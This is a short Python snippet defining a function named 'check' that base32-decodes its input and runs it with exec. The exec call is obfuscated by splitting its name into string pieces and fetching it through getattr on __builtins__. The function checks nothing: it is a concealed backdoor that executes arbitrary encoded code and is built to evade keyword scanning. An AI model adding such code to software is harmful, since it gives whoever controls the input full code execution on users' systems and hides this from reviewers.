import base64

def check(text):
    getattr(__builtins__, "ex" + "ec")(base64.b32decode(text), {})
